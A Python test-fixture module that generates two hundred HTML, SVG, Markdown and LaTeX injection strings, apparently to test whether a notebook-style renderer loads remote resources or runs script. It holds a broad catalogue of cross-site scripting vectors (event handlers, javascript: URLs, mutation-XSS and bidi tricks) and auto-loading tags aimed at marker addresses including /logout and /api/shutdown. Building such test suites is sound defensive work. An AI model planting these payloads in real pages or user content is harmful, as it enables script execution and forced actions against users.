"""Two hundred texts that want to be more than text: each loads something or runs something wherever it is markup."""

from __future__ import annotations

from itertools import cycle, islice
from typing import Final

MARK: Final = "codeassess-hit"
"""Stands in every address and every call: a request or a call that has it came from a payload."""

_ADDRESSES: Final = (
    f"/logout?{MARK}=",
    f"/api/shutdown?{MARK}=",
    f"//{MARK}.invalid/",
    f"https://{MARK}.invalid/x.png?n=",
    f"files/{MARK}.png?n=",
)

_LOADING: Final = (
    "It is 12. ![diagram]({url})",
    "![a][b]\n\n[b]: {url}",
    "[![a]({url})]({url})",
    "![x](<{url}> 'title')",
    "![](attachment:{url})",
    "<img src={url}>",
    "<img srcset='{url} 2x'>",
    "<picture><source srcset={url}><img></picture>",
    "<image src={url}>",
    "<svg><image href={url} /></svg>",
    "<svg><use href={url}#a /></svg>",
    "<svg><style>@import '{url}';</style></svg>",
    "<style>@import url({url});</style>",
    "<style>*{{background:url({url})!important}}</style>",
    "<div style='background:url({url})'>x</div>",
    "<table background={url}><tr><td>1</td></tr></table>",
    "<body background={url}>",
    "<link rel=stylesheet href={url}>",
    "<link rel=preload as=image href={url}>",
    "<link rel=prefetch href={url}>",
    "<script src={url}></script>",
    "<script type=module>import '{url}'</script>",
    "</script><script src={url}></script>",
    "<iframe src={url}></iframe>",
    "<frameset><frame src={url}></frameset>",
    "<object data={url}></object>",
    "<embed src={url}>",
    "<video src={url} autoplay></video>",
    "<video poster={url}></video>",
    "<audio src={url} autoplay></audio>",
    "<video><track default src={url}></video>",
    "<input type=image src={url}>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<base href={url}><img src=x>",
    "<form action={url}><button autofocus onfocus=this.click()>x</button></form>",
    "<a href={url} ping={url}>click</a>",
    "<template shadowrootmode=open><img src={url}></template>",
    "<noscript><img src={url}></noscript>",
    "<math><mi xlink:href={url}>x</mi></math>",
    "$\\href{{{url}}}{{x}}$",
    "$$\\require{{html}}\\style{{background:url({url})}}{{x}}$$",
    "```mermaid\ngraph TD; a-->b; click a '{url}'\n```",
    "| ![a]({url}) |\n| --- |\n| <img src={url}> |",
    "> ![quoted]({url})\n\n    <img src={url}>",
    "`code` and ``![a]({url})`` and ![b]({url})",
    "<a data-commandlinker-command='docmanager:new-untitled' href={url}>x</a>",
    "[x]({url} 'a') <{url}> {url}",
)

_RUNNING: Final = (
    "<script>hit({n})</script>",
    "</script><script>hit({n})</script>",
    "</textarea><script>hit({n})</script>",
    "</title><script>hit({n})</script>",
    "</code></pre><script>hit({n})</script>",
    "<img src=data:x onerror=hit({n})>",
    "<svg onload=hit({n})>",
    "<svg><animate onbegin=hit({n}) attributeName=x dur=1s>",
    "<svg><script>hit({n})</script></svg>",
    "<details open ontoggle=hit({n})>x</details>",
    "<input autofocus onfocus=hit({n})>",
    "<style onload=hit({n})></style>",
    "<body onload=hit({n})>",
    "<marquee onstart=hit({n})>x</marquee>",
    "<video><source onerror=hit({n})></video>",
    "<iframe srcdoc='<script>parent.hit({n})</script>'></iframe>",
    "<iframe src=javascript:parent.hit({n})></iframe>",
    "<object data=javascript:hit({n})></object>",
    "<a href=javascript:hit({n}) autofocus>x</a>",
    "[x](javascript:hit({n}))",
    "<math><mtext></form><form><mglyph><style></math><img src=data:x onerror=hit({n})>",
    "<noscript><p title='</noscript><img src=data:x onerror=hit({n})>'>",
    "<!--><script>hit({n})</script-->",
    "<![CDATA[<script>hit({n})</script>]]>",
    '"><script>hit({n})</script>',
    "'><img src=data:x onerror=hit({n})>",
    "&lt;script&gt;hit({n})&lt;/script&gt;",
    "${{hit({n})}} {{{{hit({n})}}}} <%= hit({n}) %>",
    "line one\n\n\tline two  with   blanks\n<script>\nhit({n})\n</script>\n",
    "\u202e<script>hit({n})</script>\u202c \u2066x\u2069 עברית العربية",
    "# heading\n\n- list\n1. number\n***\n`hit({n})` **bold** ~~gone~~ $x$ <b>b</b> &amp; &#60;",
    "<button data-commandlinker-command='filebrowser:toggle-main' autofocus>x</button> hit({n})",
)


def payloads(count: int = 200) -> tuple[str, ...]:
    """`count` different texts. Those that load come from every template with one address after the other."""
    addresses = cycle(_ADDRESSES)
    running = [template.format(n=f"'{MARK}'") for template in _RUNNING]
    loading = (template.format(url=f"{next(addresses)}{number}") for number, template in enumerate(cycle(_LOADING)))
    return (*running, *islice(loading, count - len(running)))
